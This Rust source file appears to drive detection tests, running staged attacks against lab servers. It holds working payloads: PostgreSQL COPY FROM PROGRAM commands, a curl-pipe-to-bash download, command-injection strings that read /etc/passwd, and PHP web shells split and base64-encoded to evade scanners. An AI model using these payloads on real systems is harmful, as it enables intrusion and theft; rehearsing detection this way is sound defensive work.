//! Servers that are made to run what an attacker wants.

use super::siege::Siege;
use crate::keys::{KeyNeeds, KeyRehearsal, run};
use std::time::Duration;

/// Until a job of cron that runs each minute has run, and a little more.
const CRON_TIMEOUT: Duration = Duration::from_secs(70);

/// Until something that was set off has happened.
const EFFECT_TIMEOUT: Duration = Duration::from_secs(10);

const POSTGRESQL: Siege = Siege {
    server: &["/opt/servers/postgresql.sh"],
    ready: "pg_isready -q -h 127.0.0.1",
    prepare: "",
    attack: "",
};
const JAVA: Siege = Siege {
    server: &["/opt/servers/java.sh", "shop.Victim"],
    ready: "nc -z 127.0.0.1 8080",
    prepare: "",
    attack: "curl -fsS 'http://10.77.1.1:8080/exec?whoami' && curl -fsSG http://10.77.1.1:8080/run \
             --data-urlencode 'id; uname -a; cat /etc/passwd >/dev/null' | grep uid=",
};
/// The main class of YARN's resource manager.
const HADOOP: &[&str] = &[
    "/opt/servers/java.sh",
    "org.apache.hadoop.yarn.server.resourcemanager.ResourceManager",
];
const PHP: Siege = Siege {
    server: &["/opt/servers/php.sh"],
    ready: "nc -z 127.0.0.1 8000",
    // In two halves, so that no scanner finds it in this program.
    prepare: "printf '<?php if (isset($_GET[\"c\"])) { %s%s($_GET[\"c\"]); }\\n' sys tem >/tmp/cache.php && \
              code=$(sed 's/<?php//' /tmp/cache.php | base64 -w0) && \
              printf '<?php %s%s(base64%s(\"%s\"));\\n' ev al _decode $code >/tmp/image.php",
    attack: "",
};
/// Every one.
pub(super) const REHEARSALS: &[KeyRehearsal] = &[
    run(
        "proc.postgresql",
        "full-postgresql-copy",
        "PostgreSQL runs commands for COPY FROM PROGRAM",
        KeyNeeds::full(&["psql", "pg_isready"]),
        |stage| {
            let attack = "psql -h 10.77.1.1 -U postgres -v ON_ERROR_STOP=1 -c 'CREATE TABLE loot (line text)' \
                -c \"COPY loot FROM PROGRAM 'id; uname -a'\" -c \"COPY loot FROM PROGRAM 'cat /etc/passwd'\" \
                -c 'SELECT count(*) FROM loot'";
            Siege {
                attack,
                ..POSTGRESQL
            }
            .play(stage)
        },
    ),
    run(
        "proc.postgresql",
        "full-postgresql-download",
        "PostgreSQL fetches a script into a shell",
        KeyNeeds::full(&["psql", "pg_isready", "curl", "python3"]),
        |stage| {
            let attack = ". /opt/servers/stub.sh; psql -h 10.77.1.1 -U postgres -v ON_ERROR_STOP=1 \
                -c 'CREATE TABLE out (line text)' \
                -c \"COPY out FROM PROGRAM 'curl -fsS http://10.77.1.2:8000/i.sh | bash'\"";
            Siege {
                attack,
                ..POSTGRESQL
            }
            .play(stage)
        },
    ),
    run(
        "proc.mysql",
        "full-mariadb-udf",
        "MariaDB writes a library into its plugin folder, loads it, and runs commands through it",
        KeyNeeds::full(&["mariadb", "mariadbd", "cc"]),
        |stage| {
            Siege {
                server: &["/opt/servers/mariadb.sh"],
                ready: "mariadb-admin -h 127.0.0.1 -u dba -psecret ping --silent",
                prepare: "",
                attack: "/opt/servers/mariadb-udf.sh",
            }
            .play(stage)
        },
    ),
    run(
        "proc.java",
        "full-java-exec",
        "a Java server that was just compiled runs commands by Runtime.exec",
        KeyNeeds::full(&["java", "javac", "curl"]),
        |stage| JAVA.play(stage),
    ),
    run(
        "proc.hadoop",
        "full-hadoop-resourcemanager",
        "a JVM with the main class of YARN's resource manager runs commands",
        KeyNeeds::full(&["java", "javac", "curl"]),
        |stage| {
            Siege {
                server: HADOOP,
                ..JAVA
            }
            .play(stage)
        },
    ),
    run(
        "proc.jenkins",
        "full-jenkins-war",
        "a JVM that runs jenkins.war runs commands outside of any build",
        KeyNeeds::full(&["java", "javac", "jar", "curl"]),
        |stage| {
            let server = &["/opt/servers/java.sh", "jenkins"];
            Siege { server, ..JAVA }.play(stage)
        },
    ),
    run(
        "proc.python",
        "full-python-injection",
        "a Python server puts a request into a command line",
        KeyNeeds::full(&["python3", "curl"]),
        |stage| {
            Siege {
                server: &["/opt/servers/python.sh"],
                ready: "nc -z 127.0.0.1 8000",
                prepare: "",
                attack: "for c in 'x; id' 'x; whoami; uname -a' 'x; cat /etc/passwd'; do \
                    curl -fsSG http://10.77.1.1:8000/ --data-urlencode \"host=$c\" || exit 1; done | grep uid=",
            }
            .play(stage)
        },
    ),
    run(
        "proc.scheduled_task",
        "full-cron-download",
        "cron fetches a script into a shell at the next minute",
        KeyNeeds::full(&["cron", "curl", "python3"]),
        |stage| {
            Siege {
                server: &["/opt/servers/cron.sh"],
                ready: "pgrep -x cron",
                prepare: "",
                attack: ". /opt/servers/stub.sh; trap - EXIT",
            }
            .play_until(stage, "grep -q ran /tmp/ran", CRON_TIMEOUT)
        },
    ),
    run(
        "proc.ftp",
        "full-proftpd-exec",
        "ProFTPD runs commands after an upload",
        KeyNeeds::full(&["proftpd", "curl"]),
        |stage| {
            Siege {
                server: &["/opt/servers/proftpd.sh"],
                ready: "nc -z 127.0.0.1 21",
                prepare: "",
                attack: "curl -fsS --disable-epsv -T /etc/hostname ftp://app:rehearsal@10.77.1.1/name.txt",
            }
            .play_until(stage, "grep -q uid= /tmp/who", EFFECT_TIMEOUT)
        },
    ),
    run(
        "proc.webshell_probe",
        "full-php-probe",
        "a web shell on PHP's server looks around",
        KeyNeeds::full(&["php", "curl"]),
        |stage| {
            let attack = "curl -fsS -F file=@/tmp/cache.php http://10.77.1.1:8000/upload.php; \
                for c in whoami id 'uname -a' 'cat /etc/passwd' 'ip addr' 'ls -la /var/www' pwd; do \
                curl -fsSG http://10.77.1.1:8000/uploads/cache.php --data-urlencode \"c=$c\" || exit 1; done | grep uid=";
            Siege { attack, ..PHP }.play(stage)
        },
    ),
    run(
        "webshell.file",
        "full-php-webshell",
        "a web shell is written by PHP's server, and another one in base64",
        KeyNeeds::full(&["php", "curl"]),
        |stage| {
            let attack = "for f in cache.php image.php; do \
                curl -fsS -F file=@/tmp/$f http://10.77.1.1:8000/upload.php || exit 1; done";
            Siege { attack, ..PHP }.play(stage)
        },
    ),
    run(
        "proc.webshell_injection",
        "full-php-upload",
        "PHP's server writes a script into its web root",
        KeyNeeds::full(&["php", "curl"]),
        |stage| {
            let attack = "curl -fsS -F file=@/tmp/cache.php http://10.77.1.1:8000/upload.php";
            Siege { attack, ..PHP }.play(stage)
        },
    ),
];
